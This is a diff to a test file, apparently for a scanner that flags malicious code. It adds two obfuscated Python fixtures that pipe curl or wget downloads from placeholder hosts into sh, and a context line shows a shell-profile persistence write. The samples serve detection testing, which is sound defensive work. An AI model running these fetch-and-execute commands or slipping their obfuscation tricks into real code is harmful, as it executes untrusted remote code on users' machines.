@@ -81,6 +81,18 @@ const malicious: Array<[string, string, RegExp]> = [
     "const os=require('os'),fs=require('fs');fs.appendFileSync(`${os.homedir()}/.bash_profile`, 'echo hi\\n');\n",
     /^js-persistence-write$/,
   ],
+  [
+    'v15.py',
+    "import base64\n__builtins__.__dict__['ex' + 'ec'](base64.b64decode('" +
+      b64("import os\nos.system('curl -s https://v.example.net/x | sh')") +
+      "'))\n",
+    /^bash-download-exec$/,
+  ],
+  [
+    'v16.py',
+    "getattr(__import__('o' + 's'), 'sys' + 'tem')('wget -qO- https://w.example.org/i | sh')\n",
+    /^bash-download-exec$/,
+  ],
 ];
 
 const benign: Array<[string, string]> = [
